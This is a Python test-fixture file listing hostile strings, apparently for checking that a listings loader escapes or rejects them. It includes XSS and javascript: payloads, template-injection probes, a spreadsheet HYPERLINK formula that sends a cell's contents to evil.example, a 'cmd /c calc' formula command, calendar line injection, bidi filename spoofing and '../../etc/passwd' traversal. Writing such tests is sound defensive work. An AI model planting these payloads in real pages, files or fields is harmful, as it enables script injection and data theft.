"""Hostile values, each short enough for a title, and the harmless one to compare with."""

HARMLESS = "Ein ganz gewöhnlicher Satz"

TEXTS = {
    "script": '<script>alert(1)</script><img src="//evil.example/a" onerror="alert(2)">',
    "attribute": "\"><svg onload=alert(1)>' onfocus='alert(2)' autofocus='",
    "closing": "</script></title></textarea></style>--><script>alert(1)</script>",
    "template": "{{ 7+191 }}{% raw %}{# x #}${7+191}{0.real}%(x)s <%= 7+191 %>",
    "scheme": "[x](javascript:alert(1)) <javascript:alert(1)> [y](data:text/html,x)",
    "hidden-scheme": "[x](java&#115;cript:alert(1)) [y](&#x6A;avascript:a) [z](vbscript:a)",
    "picture": "![x](https://evil.example/p.png) ![y](data:image/svg+xml,z)",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt; &#60;b&#62;",
    "formula": '=HYPERLINK("https://evil.example/?"&A1;"Klick")',
    "command": "@SUM(1+1)+cmd /c calc",
    "line-break": "a\nATTENDEE:mailto:a@evil.example\r\nBEGIN:VALARM\nX:1",
    "separator": "a\u2028alert(1)\u2029b\u0085c;d,e\\n:f",
    "bidi": "\u202e\u2066\u202a\u2067abc\u2069 \u202dgnp.exe",
    "long": "Donaudampfschifffahrt" * 3 + "x",
}
"""What the loader takes as a text. All are at most 80 characters, as long as a title may be."""

CONTROLS = ("\0", "\0main\0", "\a", "\x1b[31m", "\x7f", "\x9b31m", "\ufffe")
"""Characters that no text needs and that other programs obey."""

WHOLE = " ".join((TEXTS["formula"], *TEXTS.values()))
"""All at once, for fields without a limit; a spreadsheet would calculate it."""

REFUSED = {
    "start": ("0001-01-01", "9999-12-31"),
    "verified_on": ("0001-01-01", "9999-12-31"),
    "phone_hours": ("2027 Feb 30 10:00-12:00",),
    "source_url": (
        "javascript:alert(1)",
        "data:text/html,x",
        "https://[evil.example/",
        "https://a.b:99999/",
        "https://..\u2100.example/",
        "https://evil.example\\@good.example/",
        "//evil.example/",
        "https://a:b@evil.example/",
    ),
    "organisation": ("../../etc/passwd", "%2e%2e%2f", "a\n"),
    "age_min": ("-1", "1e999", "NaN", "٣"),
}
"""Field of an offer → values that must be refused; several of them would have raised on a page."""
